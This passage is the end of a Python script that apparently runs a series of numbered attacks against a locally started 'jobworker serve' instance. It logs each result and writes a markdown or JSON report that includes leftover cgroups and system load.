                env=env,
                capture_output=True,
                text=True,
                cwd=workdir,
            )
            if made.returncode:
                raise SystemExit(f"certs init failed: {made.stdout}{made.stderr}")
            server = Server(cmd=cmd, env=env, workdir=workdir, nofile=args.server_nofile)
            target = Target("127.0.0.1", 0, workdir / "certs")
            where = (
                f"own server per attack: {shlex.join(cmd)} (jobworker from {where_code or '?'}), "
                f"descriptors {args.server_nofile or 'inherited'}"
            )
        progress(f"{len(attacks)} attacks, scale {args.scale}; {where}")
        ctx = Context(target, scale, server)
        results = []
        for attack in attacks:
            progress(f"{attack.id}: {attack.title} ...")
            r = run_attack(attack, ctx)
            progress(
                f"{attack.id}: {r.saw}{' [' + r.error + ']' if r.error else ''} ({r.duration_s} s)"
            )
            results.append(r)
    finally:
        if workdir is not None:
            shutil.rmtree(workdir, ignore_errors=True)
    # Other servers (tests) may come and go on this host meanwhile: count only our servers'.
    left = [
        c
        for c in jobworker_cgroups()
        if c not in cgroups_before and (not server.own or c.split("/")[-1] in server.cgroup_names)
    ]
    header = (
        f"Attacks on `jobworker serve`, scale {args.scale} ({where}); {os.cpu_count()} CPUs; "
        f"load {' '.join(Path('/proc/loadavg').read_text().split()[:3])}. "
        f"Cgroups left behind: {', '.join(left) or 'none'}."
    )
    table = markdown(results, header)
    print(table)
    if args.markdown:
        args.markdown.write_text(table)
    if args.json:
        args.json.write_text(
            json.dumps(
                {
                    "scale": args.scale,
                    "where": where,
                    "cgroups_left": left,
                    "results": [r.__dict__ for r in results],
                },
                indent=1,
                default=str,
            )
        )
    return 0


if __name__ == "__main__":
    sys.exit(main())
